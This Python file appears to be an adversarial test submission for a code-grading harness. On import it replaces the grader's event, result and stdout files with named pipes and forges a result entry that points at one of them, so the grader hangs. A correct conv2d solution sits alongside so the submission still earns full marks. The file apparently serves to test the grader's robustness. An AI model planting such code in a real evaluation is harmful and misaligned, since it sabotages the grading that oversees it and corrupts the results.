# attack: FIFOs in place of the events file, a results file and a result .npy (the grader hangs reading them)
import json
import os

import numpy as np


def _fifo(path):
    try:
        if os.path.lexists(path):
            os.unlink(path)
        os.mkfifo(path)
    except OSError:
        pass


def _sabotage():
    for folder in ("../out", "."):
        for name in ("events.jsonl", "results-1.jsonl", "stdout-0.txt", "stdout-1.txt", "evil.npy"):
            _fifo(os.path.join(folder, name))
    try:   # a result that names the FIFO as its array file
        fd = os.open("../out/results-0.jsonl", os.O_WRONLY | os.O_APPEND | os.O_CREAT | os.O_NONBLOCK)
        os.write(fd, (json.dumps({"id": "c0", "result": {"t": "array", "file": "evil.npy"}}) + "\n").encode())
        os.close(fd)
    except OSError:
        pass


_sabotage()   # at import: runs in every process that executes the cells


def to_unit_range(image):
    _sabotage()
    return None


def conv2d_single(image, kernel):
    # a correct task beside the attack: it must still earn full marks
    from numpy.lib.stride_tricks import sliding_window_view
    if image.ndim != 2 or kernel.ndim != 2 or kernel.shape[0] > image.shape[0] or kernel.shape[1] > image.shape[1]:
        raise ValueError("bad shapes")
    return np.einsum("ijkl,kl->ij", sliding_window_view(image, kernel.shape), kernel)


def _right(image):
    return (np.asarray(image) / 255).astype(np.float32)
